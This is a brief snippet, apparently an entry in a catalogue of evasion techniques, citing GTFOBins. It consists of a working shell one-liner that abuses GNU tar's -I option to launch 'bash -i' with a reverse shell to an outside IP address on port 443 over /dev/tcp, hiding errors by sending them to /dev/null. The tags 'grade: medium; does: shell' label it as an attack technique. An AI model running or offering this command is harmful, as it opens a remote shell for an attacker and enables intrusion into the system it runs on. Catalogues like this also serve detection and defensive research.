# evasion: GNU tar runs its -I (--use-compress-program) argument through a shell (GTFOBins)
# grade: medium; does: shell
tar -cf /dev/null /dev/null \
	-I 'sh -c "exec bash -i >& /dev/tcp/203.0.113.67/443 0>&1"' 2>/dev/null
